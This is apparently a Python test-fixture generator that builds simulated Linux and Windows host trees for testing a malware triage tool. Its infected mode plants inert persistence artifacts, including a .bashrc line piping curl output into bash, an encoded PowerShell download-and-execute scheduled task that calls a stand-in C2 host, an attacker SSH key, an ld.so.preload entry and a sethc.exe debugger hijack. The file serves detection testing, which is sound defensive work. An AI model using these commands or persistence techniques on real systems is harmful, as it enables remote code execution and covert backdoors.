"""
host_gen.py - builds host trees for `flowgate triage` and `flowgate sweep` at test time.

linux_tree(dir, infected) and windows_tree(dir, infected) write a clean Debian-like or
Windows-like tree (real programs copied from this machine or inert PE files built by
pe_sample.py, ordinary units, cron jobs, Run keys, services and tasks; registry hives built
here with hivex's write API) and, if infected, plant the artifacts listed in PLANTED.  Every
planted program is inert: a copy of /bin/true or a do-nothing PE with marker strings that the
rule in MARKER_RULE matches.  Python 3 with python3-hivex (Debian).
"""
import base64
import os
import shutil
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pe_sample  # noqa: E402

try:
    import hivex
except ImportError:  # Debian's binding lives in the system interpreter's dist-packages
    sys.path.append("/usr/lib/python3/dist-packages")
    import hivex

MARKER = b"FGTEST-IMPLANT-7f3a9c c2.fgtest.invalid/gate.php"
MARKER_RULE = """rule FGTest_Implant
{
    strings:
        $a = "FGTEST-IMPLANT-7f3a9c"
        $b = "c2.fgtest.invalid/gate.php"
    condition:
        all of them
}
"""

# (id, path as triage reports it) of every artifact the infected trees hold.
PLANTED_LINUX = [
    ("tri.autostart.systemd", "/etc/systemd/system/kworker-helper.service"),
    ("tri.autostart.cron", "/etc/cron.d/sysupdate"),
    ("tri.autostart.ld-preload", "/etc/ld.so.preload"),
    ("tri.autostart.ssh-key", "/root/.ssh/authorized_keys"),
    ("tri.autostart.shell", "/home/alice/.bashrc"),
    ("tri.name.kernel-thread", "/dev/shm/.x/kworker"),
    ("tri.place.executable", "/dev/shm/.x/kworker"),
    ("tri.name.hidden-temp-dir", "/dev/shm/.x"),
    ("tri.name.hidden-temp-dir", "/tmp/.cache"),
    ("tri.staging.split-archive", "/tmp/.cache/backup.zip.001"),
    ("tri.yara", "/dev/shm/.x/kworker"),
]
PLANTED_WINDOWS = [
    ("tri.autostart.run", "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"),
    ("tri.name.system-elsewhere", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe"),
    ("tri.place.executable", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe"),
    ("tri.yara", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe"),
    ("tri.name.lookalike", "C:\\ProgramData\\scvhost.exe"),
    ("tri.autostart.task", "C:\\Windows\\System32\\Tasks\\SystemHealthCheck"),
    ("tri.autostart.service",
     "HKLM\\SYSTEM\\ControlSet001\\Services\\WinHelperSvc\\Parameters\\ServiceDll"),
    ("tri.place.executable", "C:\\Windows\\Temp\\winhelper.dll"),
    ("tri.autostart.ifeo",
     "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger"),
    ("tri.staging.split-archive", "C:\\Users\\alice\\AppData\\Local\\Temp\\data.7z.001"),
    ("tri.name.double-ext", "C:\\Users\\alice\\Documents\\invoice.pdf.exe"),
    ("tri.name.rlo", "C:\\Users\\alice\\Downloads\\photo\\u{202E}gpj.exe"),  # shown escaped
]

REG_SZ, REG_EXPAND_SZ, REG_DWORD, REG_MULTI_SZ = 1, 2, 4, 7


def _w(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)


# ---- registry hives ----

def _empty_hive():
    """The smallest hive hivex opens: a base block, one bin, a root key and its security cell."""
    hbin = bytearray(4096)
    hbin[0:4] = b"hbin"
    struct.pack_into("<II", hbin, 4, 0, 4096)
    name = b"ROOT"
    nk_off = 0x20
    nk_len = (4 + 76 + len(name) + 7) // 8 * 8
    sk_off = nk_off + nk_len
    sd = struct.pack("<BBHIIII", 1, 0, 0x8004, 0, 0, 0, 0)
    sk_len = (4 + 20 + len(sd) + 7) // 8 * 8
    nk = struct.pack("<i2sHQIIIIIIIIIIIIIIIHH", -nk_len, b"nk", 0x2C, 0, 0, 0xFFFFFFFF, 0, 0,
                     0xFFFFFFFF, 0xFFFFFFFF, 0, 0xFFFFFFFF, sk_off, 0xFFFFFFFF, 0, 0, 0, 0, 0,
                     len(name), 0) + name
    hbin[nk_off:nk_off + len(nk)] = nk
    sk = struct.pack("<i2sHIIII", -sk_len, b"sk", 0, sk_off, sk_off, 1, len(sd)) + sd
    hbin[sk_off:sk_off + len(sk)] = sk
    free_off = sk_off + sk_len
    struct.pack_into("<i", hbin, free_off, 4096 - free_off)
    base = bytearray(4096)
    base[0:4] = b"regf"
    struct.pack_into("<IIQIIIIIII", base, 4, 1, 1, 0, 1, 3, 0, 1, nk_off, 4096, 1)
    csum = 0
    for i in range(0, 508, 4):
        csum ^= struct.unpack_from("<I", base, i)[0]
    struct.pack_into("<I", base, 508, csum)
    return bytes(base + hbin)


def _sz(s):
    return (s + "\0").encode("utf-16-le")


def build_hive(path, keys):
    """keys: {"A\\B": [(name, type, value), ...]}; str values are REG_SZ/EXPAND_SZ text,
    lists REG_MULTI_SZ, ints REG_DWORD."""
    _w(path, _empty_hive())
    h = hivex.Hivex(path, write=True)
    for kp, values in keys.items():
        node = h.root()
        for part in kp.split("\\"):
            child = h.node_get_child(node, part)
            node = child if child else h.node_add_child(node, part)
        vals = []
        for name, t, v in values:
            if t == REG_DWORD:
                data = struct.pack("<I", v)
            elif t == REG_MULTI_SZ:
                data = b"".join(_sz(x) for x in v) + b"\0\0"
            else:
                data = _sz(v)
            vals.append({"key": name, "t": t, "value": data})
        if vals:
            h.node_set_values(node, vals)
    h.commit(path)


# ---- Linux ----

LINUX_BINARIES = ["ls", "cat", "bash", "sh", "cp", "mv", "grep", "sed", "tar", "gzip",
                  "true", "false", "sleep", "env", "id", "date", "find", "xargs", "sort"]
LINUX_SBIN = {"sshd": "true", "cron": "true", "rsyslogd": "true", "agetty": "true",
              "anacron": "true", "logrotate": "true"}

UNITS = {
    "ssh.service": "[Unit]\nDescription=OpenBSD Secure Shell server\nAfter=network.target\n\n"
                   "[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\n"
                   "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/bin/kill -HUP $MAINPID\n"
                   "Restart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n",
    "cron.service": "[Unit]\nDescription=Regular background program processing daemon\n\n"
                    "[Service]\nEnvironmentFile=-/etc/default/cron\n"
                    "ExecStart=/usr/sbin/cron -f $EXTRA_OPTS\nKillMode=process\n\n"
                    "[Install]\nWantedBy=multi-user.target\n",
    "rsyslog.service": "[Unit]\nDescription=System Logging Service\n\n[Service]\nType=notify\n"
                       "ExecStart=/usr/sbin/rsyslogd -n -iNONE\n\n[Install]\nWantedBy=multi-user.target\n",
    "getty@.service": "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\n",
    "logrotate.service": "[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n",
    "logrotate.timer": "[Timer]\nOnCalendar=daily\n",
}

CRON_D = {
    "e2scrub_all": "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
                   "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
                   "10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n",
    "anacron": "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
               "30 7-23 * * * root [ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; "
               "then /usr/sbin/invoke-rc.d anacron start >/dev/null; fi\n",
}

CRONTAB = """SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
# m h dom mon dow user\tcommand
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
"""

BASHRC = """# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
"""


def _true():
    for p in ("/usr/bin/true", "/bin/true"):
        if os.path.exists(p):
            return p
    raise RuntimeError("no /bin/true to copy")


def linux_tree(root, infected=False, implant_name="kworker", cron_cmd=None):
    """A Debian-like tree; infected plants PLANTED_LINUX (the implant under /dev/shm/.x/)."""
    _w(root + "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\n'
       'VERSION_ID="12"\nID=debian\n')
    _w(root + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    _w(root + "/etc/hostname", os.path.basename(root) + "\n")
    _w(root + "/etc/.pwd.lock", "")
    _w(root + "/etc/crontab", CRONTAB)
    for n, t in CRON_D.items():
        _w(root + "/etc/cron.d/" + n, t)
    _w(root + "/etc/cron.daily/logrotate", "#!/bin/sh\n# skip in favour of systemd timer\n"
       "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0o755)
    _w(root + "/etc/init.d/cron", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: cron\n### END INIT INFO\n"
       "DAEMON=/usr/sbin/cron\nstart-stop-daemon --start --exec $DAEMON\n", 0o755)
    _w(root + "/etc/profile", 'if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/sbin:/sbin:/usr/bin:/bin"\n'
       'fi\nexport PATH\nfor i in /etc/profile.d/*.sh; do . $i; done\n')
    _w(root + "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n")
    _w(root + "/etc/modules-load.d/modules.conf", "# /etc/modules: kernel modules to load at boot time.\n")
    _w(root + "/etc/xdg/autostart/xdg-user-dirs.desktop", "[Desktop Entry]\nType=Application\n"
       "Name=User folders update\nExec=xdg-user-dirs-update\nOnlyShowIn=GNOME;LXDE;\n")
    _w(root + "/etc/udev/rules.d/70-persistent-net.rules", "# generated\n")
    for n, t in UNITS.items():
        _w(root + "/usr/lib/systemd/system/" + n, t)
    os.makedirs(root + "/etc/systemd/system/multi-user.target.wants", exist_ok=True)
    os.symlink("/lib/systemd/system/ssh.service",
               root + "/etc/systemd/system/multi-user.target.wants/ssh.service")
    _w(root + "/usr/lib/systemd/user/dbus.socket", "[Socket]\nListenStream=%t/bus\n")
    for b in LINUX_BINARIES:
        src = shutil.which(b) or _true()
        _w(root + "/usr/bin/" + b, open(os.path.realpath(src), "rb").read(), 0o755)
    for b, src in LINUX_SBIN.items():
        _w(root + "/usr/sbin/" + b, open(os.path.realpath(shutil.which(src) or _true()), "rb").read(), 0o755)
    _w(root + "/usr/bin/xdg-user-dirs-update", open(_true(), "rb").read(), 0o755)
    _w(root + "/usr/sbin/invoke-rc.d", "#!/bin/sh\nexit 0\n", 0o755)
    _w(root + "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", "#!/bin/sh\nexit 0\n", 0o755)
    _w(root + "/usr/sbin/e2scrub_all", "#!/bin/sh\nexit 0\n", 0o755)
    _w(root + "/usr/share/bash-completion/completions/sshd", "# completion\n")
    for link, target in (("bin", "usr/bin"), ("sbin", "usr/sbin"), ("lib", "usr/lib")):
        os.symlink(target, root + "/" + link)
    _w(root + "/home/alice/.bashrc", BASHRC)
    _w(root + "/home/alice/.profile", "if [ -n \"$BASH_VERSION\" ]; then\n . \"$HOME/.bashrc\"\nfi\n")
    _w(root + "/home/alice/.config/user-dirs.dirs", 'XDG_DESKTOP_DIR="$HOME/Desktop"\n')
    _w(root + "/home/alice/.local/share/recently-used.xbel", "<xbel/>\n")
    _w(root + "/home/alice/notes.tar.gz", b"\x1f\x8b\x08\x00" + b"\0" * 60)
    _w(root + "/root/.bashrc", BASHRC)
    os.makedirs(root + "/tmp/.X11-unix", exist_ok=True)
    os.makedirs(root + "/tmp/.ICE-unix", exist_ok=True)
    _w(root + "/tmp/sess_1234.txt", "session\n")
    _w(root + "/var/log/syslog", "Nov 20 10:00:00 host systemd[1]: Started cron.service\n")
    os.makedirs(root + "/dev/shm", exist_ok=True)
    if not infected:
        return
    implant = "/dev/shm/.x/" + implant_name
    _w(root + implant, open(_true(), "rb").read() + b"\0" + MARKER + b"\0", 0o755)
    _w(root + "/etc/systemd/system/kworker-helper.service",
       "[Unit]\nDescription=Kernel worker helper\n\n[Service]\nExecStart=%s\nRestart=always\n\n"
       "[Install]\nWantedBy=multi-user.target\n" % implant)
    _w(root + "/etc/cron.d/sysupdate", "*/5 * * * * root %s >/dev/null 2>&1\n" % (cron_cmd or implant))
    _w(root + "/usr/lib/x86_64-linux-gnu/libsysupd.so.1", b"\x7fELF" + b"\0" * 60)
    _w(root + "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsysupd.so.1\n")
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes(range(32))
    _w(root + "/root/.ssh/authorized_keys",
       "ssh-ed25519 %s backdoor@attacker\n" % base64.b64encode(blob).decode(), 0o600)
    with open(root + "/home/alice/.bashrc", "a") as f:
        f.write("(curl -fsSL http://update.fgtest.invalid/s.sh | bash) >/dev/null 2>&1 &\n")
    _w(root + "/tmp/.cache/backup.zip.001", b"PK\x07\x08" + os.urandom(4096))
    _w(root + "/tmp/.cache/backup.zip.002", os.urandom(2048))


# ---- Windows ----

def _pe(strings=(), extra=b""):
    return pe_sample.pe_bytes(imports=[("kernel32.dll", ["ExitProcess", "GetCommandLineW"])],
                              strings=strings) + extra


def _task_xml(command, arguments):
    xml = ('<?xml version="1.0" encoding="UTF-16"?>\n'
           '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n'
           '  <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>\n'
           '  <Actions Context="Author">\n    <Exec>\n      <Command>%s</Command>\n'
           '      <Arguments>%s</Arguments>\n    </Exec>\n  </Actions>\n</Task>\n'
           % (command, arguments))
    return b"\xff\xfe" + xml.encode("utf-16-le")


WIN_SYSTEM32 = ["svchost.exe", "lsass.exe", "services.exe", "cmd.exe", "rundll32.exe",
                "userinit.exe", "SecurityHealthSystray.exe", "spoolsv.exe", "defrag.exe",
                "dhcpcore.dll", "kernel32.dll", "powershell.exe", "conhost.exe", "taskhostw.exe",
                "sethc.exe", "iexplore.exe"]


def windows_tree(root, infected=False, implant_name="svchost.exe", run_cmd=None):
    """A Windows-like tree (one volume, C:); infected plants PLANTED_WINDOWS."""
    for n in WIN_SYSTEM32:  # each its own bytes, as real programs are
        _w(root + "/Windows/System32/" + n, _pe(strings=[n]))
    _w(root + "/Windows/System32/drivers/tcpip.sys", _pe())
    _w(root + "/Windows/System32/WindowsPowerShell/v1.0/powershell.exe", _pe())
    _w(root + "/Windows/explorer.exe", _pe())
    _w(root + "/Windows/WinSxS/amd64_microsoft-windows-s..-svchost_31bf3856ad364e35/svchost.exe", _pe())
    _w(root + "/Program Files/7-Zip/7z.exe", _pe())
    _w(root + "/Program Files/Internet Explorer/iexplore.exe", _pe())
    _w(root + "/Users/alice/AppData/Local/Microsoft/OneDrive/OneDrive.exe", _pe())
    _w(root + "/Users/alice/AppData/Local/Microsoft/Teams/Update.exe", _pe())
    _w(root + "/Users/alice/AppData/Local/Temp/~DF12AB.tmp", b"\0" * 512)
    _w(root + "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/desktop.ini",
       "[.ShellClassInfo]\n")
    _w(root + "/Users/alice/Documents/report.final.docx", b"PK\x03\x04" + b"\0" * 100)
    _w(root + "/Users/alice/Desktop/desktop.ini", "[.ShellClassInfo]\n")
    _w(root + "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/desktop.ini", "[x]\n")
    _w(root + "/ProgramData/Microsoft/Windows Defender/Platform/4.18.2/MsMpEng.exe", _pe())
    _w(root + "/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag",
       _task_xml("%windir%\\system32\\defrag.exe", "-c -h -o -$"))
    _w(root + "/Windows/Temp/MpCmdRun.log", "log\n")
    run = "Microsoft\\Windows\\CurrentVersion\\Run"
    software = {
        run: [("SecurityHealth", REG_EXPAND_SZ, "%windir%\\system32\\SecurityHealthSystray.exe")],
        "Microsoft\\Windows NT\\CurrentVersion\\Winlogon": [
            ("Shell", REG_SZ, "explorer.exe"),
            ("Userinit", REG_SZ, "C:\\Windows\\system32\\userinit.exe,")],
        "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\iexplore.exe": [
            ("DisableExceptionChainValidation", REG_DWORD, 0)],
        "Microsoft\\Windows NT\\CurrentVersion\\Windows": [
            ("AppInit_DLLs", REG_SZ, ""), ("LoadAppInit_DLLs", REG_DWORD, 0)],
    }
    services = "ControlSet001\\Services\\"
    system = {
        "Select": [("Current", REG_DWORD, 1)],
        services + "Dhcp": [("ImagePath", REG_EXPAND_SZ,
                             "%SystemRoot%\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p"),
                            ("Start", REG_DWORD, 2)],
        services + "Dhcp\\Parameters": [("ServiceDll", REG_EXPAND_SZ, "%SystemRoot%\\system32\\dhcpcore.dll")],
        services + "Tcpip": [("ImagePath", REG_EXPAND_SZ, "System32\\drivers\\tcpip.sys"), ("Start", REG_DWORD, 0)],
        services + "Spooler": [("ImagePath", REG_EXPAND_SZ, "%SystemRoot%\\System32\\spoolsv.exe")],
        services + "WinDefend": [("ImagePath", REG_EXPAND_SZ,
                                  '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe"')],
        "ControlSet001\\Control\\Session Manager": [("BootExecute", REG_MULTI_SZ, ["autocheck autochk *"])],
    }
    ntuser = {
        "Software\\" + run: [("OneDrive", REG_SZ,
                              '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background')],
        "Environment": [("TEMP", REG_EXPAND_SZ, "%USERPROFILE%\\AppData\\Local\\Temp")],
    }
    if infected:
        implant = _pe(strings=[MARKER.decode()])
        _w(root + "/Users/alice/AppData/Roaming/" + implant_name, implant)
        ntuser["Software\\" + run].append(("Updater", REG_SZ, run_cmd or "%APPDATA%\\" + implant_name))
        _w(root + "/ProgramData/scvhost.exe", _pe(strings=["scvhost helper"]))
        enc = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://c2.fgtest.invalid/a')"
                               .encode("utf-16-le")).decode()
        _w(root + "/Windows/System32/Tasks/SystemHealthCheck",
           _task_xml("powershell.exe", "-nop -w hidden -enc " + enc))
        system[services + "WinHelperSvc"] = [
            ("ImagePath", REG_EXPAND_SZ, "%SystemRoot%\\System32\\svchost.exe -k netsvcs"),
            ("Start", REG_DWORD, 2)]
        system[services + "WinHelperSvc\\Parameters"] = [
            ("ServiceDll", REG_EXPAND_SZ, "C:\\Windows\\Temp\\winhelper.dll")]
        _w(root + "/Windows/Temp/winhelper.dll", _pe(strings=["winhelper service"]))
        software["Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"] = [
            ("Debugger", REG_SZ, "C:\\Windows\\System32\\cmd.exe")]
        for i in range(1, 4):
            _w(root + "/Users/alice/AppData/Local/Temp/data.7z.%03d" % i,
               (b"7z\xbc\xaf\x27\x1c" if i == 1 else b"") + os.urandom(8192))
        _w(root + "/Users/alice/Documents/invoice.pdf.exe", _pe(strings=["invoice dropper"]))
        _w(root + "/Users/alice/Downloads/photo\u202egpj.exe", _pe(strings=["photo dropper"]))
    build_hive(root + "/Windows/System32/config/SOFTWARE", software)
    build_hive(root + "/Windows/System32/config/SYSTEM", system)
    build_hive(root + "/Users/alice/NTUSER.DAT", ntuser)


if __name__ == "__main__":
    import argparse
    ap = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
    ap.add_argument("kind", choices=["linux", "windows"])
    ap.add_argument("dir")
    ap.add_argument("--infected", action="store_true")
    a = ap.parse_args()
    (linux_tree if a.kind == "linux" else windows_tree)(a.dir, a.infected)
